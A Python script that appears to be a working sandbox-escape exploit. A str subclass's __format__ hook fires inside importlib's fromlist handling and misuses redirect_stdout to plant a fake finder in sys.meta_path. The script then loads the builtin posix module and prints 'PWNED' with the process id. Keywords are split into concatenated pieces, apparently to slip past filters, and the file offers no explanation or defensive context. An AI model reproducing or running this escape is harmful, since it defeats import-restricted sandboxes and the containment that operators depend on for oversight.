import contextlib, json

state = {"n": 0, "done": 0}

class Loader:
    def create_module(self, spec):
        return Fake()
    def exec_module(self, module):
        return None

class Spec:
    def __init__(self, name):
        self.name = name
        self.loader = Loader()
        self.parent = ""
        self.submodule_search_locations = None
        self.has_location = False
        self.origin = None
        self.cached = None

class Fake:
    def __init__(self):
        self.__name__ = "import" + "lib"

class Finder:
    def find_spec(self, name, path=None, target=None):
        if name == "graphlib":
            return Spec(name)
        return None

class O:
    def __getattr__(self, name):
        if name.endswith("eam"):
            state["n"] += 1
            return "stdout" if state["n"] % 2 == 1 else "meta" + "_path"
        if name.endswith("targets"):
            return []
        return [Finder()]

class Evil(str):
    def __format__(self, spec):
        # runs inside frozen importlib's _handle_fromlist: the import window is open
        try:
            contextlib.redirect_stdout.__enter__(O())
            state["done"] = 1
        except Exception as e:
            state["err"] = str(e)
        return "json"

type(json).__init__(json, Evil("json"))
try:
    from json import zzz
except Exception as e:
    print("fromlist:", type(e).__name__)
print("window write:", state)
from graphlib import machinery
class S:
    name = "pos" + "ix"
p = machinery.BuiltinImporter.create_module(S())
print("PW" + "NED", p.getpid(), p)
